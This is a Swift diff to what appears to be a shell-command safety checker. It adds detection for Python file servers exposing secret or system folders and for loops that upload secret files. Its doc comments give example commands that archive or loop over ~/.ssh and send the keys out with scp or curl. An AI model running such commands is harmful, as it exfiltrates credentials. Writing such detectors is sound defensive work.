@@ -34,8 +34,11 @@ enum Sending {
     case "mail", "mutt", "mailx", "sendmail":
       return carriesSecret(invocation, script) ? .danger : .caution
     case "python", "python3":
-      return invocation.value(of: "-m").map { ["http.server", "SimpleHTTPServer"].contains($0) } == true
-        ? .caution : nil
+      guard invocation.value(of: "-m").map({ ["http.server", "SimpleHTTPServer", "pyftpdlib"].contains($0) }) == true
+      else { return nil }
+      let shown = invocation.value(of: "-d", "--directory")
+      return shown.map { SecretFile.isNamedOrFolder($0) || TargetPath.isSystem($0) || $0 == "~" } == true
+        ? .danger : .caution
     default: return nil
     }
   }
@@ -69,7 +72,7 @@ enum Sending {
         ["find", "fd", "fdfind", "locate", "grep"].contains(finder.name ?? "")
           && finder.ownArguments.contains { SecretFile.isNamed($0.text) }
       }
-    return isFed || sendsFound || sendsCopy(invocation, script) || namesSecret || readsFile || readsSecret(invocation)
+    return isFed || sendsFound || namesLoop(invocation, script) || sendsCopy(invocation, script) || namesSecret || readsFile || readsSecret(invocation)
   }
 
   /// Whether it sends a file that an earlier command made of secrets: `tar czf k.tgz ~/.ssh; scp k.tgz h:`.
@@ -81,6 +84,15 @@ enum Sending {
       makers.contains(maker.name ?? "") && maker.operands.contains { isPrivate($0.text) }
         && (maker.operands.contains { !isPrivate($0.text) && sent.contains($0.text) }
           || maker.redirections.contains { sent.contains($0.target.roughText) })
+    }
+  }
+
+  /// Whether a word holds a variable that goes over secret files: `for f in ~/.ssh/*; do curl -T "$f" x; done`.
+  private static func namesLoop(_ invocation: Invocation, _ script: InvocationCollector) -> Bool {
+    invocation.arguments.contains { argument in
+      guard argument.isDynamic, let sign = argument.written.firstIndex(of: "$") else { return false }
+      let name = argument.written[sign...].dropFirst().drop { $0 == "{" }.prefix { $0.isLetter || $0.isNumber || $0 == "_" }
+      return script.state.variables[String(name)]?.last.map(SecretFile.isNamed) == true
     }
   }
 
